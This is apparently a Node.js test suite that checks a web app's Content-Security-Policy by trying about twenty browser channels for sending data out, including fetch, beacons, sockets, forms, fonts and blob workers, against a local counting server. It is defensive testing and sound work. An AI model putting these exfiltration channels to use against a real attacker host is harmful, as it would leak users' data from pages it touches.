// Nothing leaves the page: every way out that a page or a worker has is tried against another origin, a server of ours
// on another port that counts what reaches it. The same ways are tried without the policy first, to prove that they work.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { serve } from "../../setup/serve.mjs";
import { appWorker, drop, newVisitor, openApp, openBrowser, openSite } from "./harness.mjs";

let browser, elsewhere, folder;
before(async () => {
  browser = await openBrowser();
  folder = mkdtempSync(join(tmpdir(), "hinterland-elsewhere-"));
  writeFileSync(join(folder, "index.html"), "<!doctype html><title>No policy</title>");
  elsewhere = await serve(folder);
});
after(async () => {
  await browser?.close();
  await elsewhere?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Runs in the page: tries each way out to `target` and gives the names of those that were tried. */
async function leakFromPage(target) {
  const element = (tag, set) => new Promise((done) => {
    const made = Object.assign(document.createElement(tag), set);
    made.onload = made.onerror = done;
    document.body.append(made);
    setTimeout(done, 400);
  });
  const ways = {
    fetch: () => fetch(`${target}fetch`, { mode: "no-cors" }),
    post: () => fetch(`${target}post`, { mode: "no-cors", method: "POST", body: "secret" }),
    xhr: () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("GET", `${target}xhr`);
      request.send();
    }),
    beacon: () => navigator.sendBeacon(`${target}beacon`, "secret"),
    socket: () => new Promise((done) => { new WebSocket(`${target.replace("http", "ws")}socket`).onerror = done; }),
    events: () => new Promise((done) => { new EventSource(`${target}events`).onerror = done; }),
    image: () => element("img", { src: `${target}image` }),
    script: () => element("script", { src: `${target}script` }),
    style: () => element("link", { rel: "stylesheet", href: `${target}style` }),
    prefetch: () => element("link", { rel: "prefetch", href: `${target}prefetch` }),
    preload: () => element("link", { rel: "preload", as: "fetch", crossOrigin: "anonymous", href: `${target}preload` }),
    frame: () => element("iframe", { src: `${target}frame` }),
    video: () => element("video", { src: `${target}video` }),
    embed: () => element("embed", { src: `${target}embed` }),
    font: () => new FontFace("leak", `url(${target}font)`).load(),
    module: () => import(`${target}module`),
    worker: () => new Promise((done) => {
      const url = URL.createObjectURL(new Blob([`importScripts("${target}worker")`], { type: "text/javascript" }));
      new Worker(url).onerror = done;
      setTimeout(done, 400);
    }),
    form: () => new Promise((done) => {
      const sink = Object.assign(document.createElement("iframe"), { name: "sink" });
      const form = Object.assign(document.createElement("form"), { action: `${target}form`, method: "post", target: "sink" });
      document.body.append(sink, form);
      form.submit();
      setTimeout(done, 400);
    }),
  };
  const attempts = Object.values(ways).map(async (way) => way());
  await Promise.allSettled(attempts.map((attempt) => Promise.race([attempt, new Promise((done) => setTimeout(done, 2000))])));
  return Object.keys(ways);
}

/** The same for a worker, which has fewer ways. */
async function leakFromWorker(target) {
  const ways = {
    fetch: () => fetch(`${target}worker-fetch`, { mode: "no-cors" }),
    xhr: () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("GET", `${target}worker-xhr`);
      request.send();
    }),
    socket: () => new Promise((done) => { new WebSocket(`${target.replace("http", "ws")}worker-socket`).onerror = done; }),
    events: () => new Promise((done) => { new EventSource(`${target}worker-events`).onerror = done; }),
    module: () => import(`${target}worker-module`),
    nested: () => new Promise((done) => {
      const source = `fetch("${target}worker-nested", { mode: "no-cors" }).finally(() => postMessage(0))`;
      new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" }))).onmessage = done;
    }),
  };
  const attempts = Object.values(ways).map(async (way) => way());
  await Promise.allSettled(attempts.map((attempt) => Promise.race([attempt, new Promise((done) => setTimeout(done, 2000))])));
  return Object.keys(ways);
}

const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));

/** What reached the other origin since the last call, a site's icon aside. */
const reached = () => elsewhere.hits.splice(0).filter((path) => path !== "/" && path !== "/favicon.ico").sort();

/** Those of `paths` that do not reach the other origin, however slow the machine. */
async function unreached(paths) {
  let missing = paths;
  for (let tries = 0; missing.length > 0 && tries < 50; tries += 1) {
    await pause(100);
    missing = paths.filter((path) => !elsewhere.hits.includes(path));
  }
  elsewhere.hits.length = 0;
  return missing;
}

test("without the policy, the ways out work", async () => {
  const visitor = await newVisitor(browser);
  const plain = await serve(folder);
  try {
    await visitor.page.goto(plain.address);
    const ways = await visitor.page.evaluate(leakFromPage, elsewhere.address);
    assert.deepEqual(await unreached(ways.map((way) => `/${way}`)), []);
    const workerWays = await visitor.page.evaluate(async ([leak, target]) => {
      const source = `(${leak})(${JSON.stringify(target)}).then((ways) => postMessage(ways))`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), { type: "module" });
      return new Promise((done) => { worker.onmessage = (event) => done(event.data); });
    }, [leakFromWorker.toString(), elsewhere.address]);
    assert.deepEqual(await unreached(workerWays.map((way) => `/worker-${way}`)), []);
  } finally {
    await visitor.close();
    await plain.close();
  }
});

/** Tries every way out from a worker; none may lead anywhere. */
async function checkWorker(worker, name) {
  await worker.evaluate(leakFromWorker, elsewhere.address);
  await pause(500);
  assert.deepEqual(reached(), [], `reached from the ${name}`);
}

for (const base of ["/", "/sub/path/"]) {
  test(`page and workers reach no other origin, and their own files, under ${base}`, async () => {
    const site = await openSite({ base });
    const visitor = await newVisitor(browser);
    const { page } = visitor;
    try {
      await openApp(page, site.address);
      const own = (path) => fetch(path).then((answer) => answer.status);
      assert.equal(await page.evaluate(own, `${site.address}packs/us-zips.pack.gz`), 200);
      await page.evaluate(leakFromPage, elsewhere.address);
      await pause(500);
      assert.deepEqual(reached(), [], "reached from the page");
      assert.deepEqual(site.hits.filter((path) => /planner|importer|unpacker/.test(path)), [], "nothing is loaded before it is needed");
      await drop(page.locator("main"), [{ name: "a.csv", bytes: "Name,ZIP\nAcme,02108\n" }]);
      await page.getByText("a.csv").first().waitFor();
      const planner = await appWorker(page);
      assert.equal(await planner.evaluate(own, `${site.address}packs/us-zips.pack.gz`), 200);
      await checkWorker(planner, "planner");
      await checkWorker(page.workers()[1], "importer");
      // The unpacker lives as long as it unpacks: its program comes late, and it waits.
      let go;
      const tried = new Promise((done) => { go = done; });
      await page.route(/unpacker-.*\.wasm$/, async (route) => { await tried; await route.continue(); });
      const started = page.waitForEvent("worker");
      await drop(page.locator("main"), [{ name: "b.csv.gz", bytes: gzipSync("Name,ZIP\nBolt,10001\n") }]);
      await checkWorker(await started, "unpacker");
      go();
      await page.getByText("b.csv").first().waitFor();
    } finally {
      await visitor.close();
      await site.close();
    }
  });
}

test("the policy is in the page, ahead of all that loads, and nothing in it is inline", async () => {
  const site = await openSite();
  try {
    const html = await (await fetch(site.address)).text();
    const policy = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1] ?? "";
    for (const rule of ["default-src 'none'", "connect-src 'self'", "worker-src blob:", "base-uri 'none'", "form-action 'none'"]) {
      assert.ok(policy.split("; ").includes(rule), `${rule} is missing in: ${policy}`);
    }
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*/);
    assert.ok(html.indexOf("Content-Security-Policy") < html.search(/<(script|link)/), "the policy comes first");
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\sstyle=/);
  } finally {
    await site.close();
  }
});
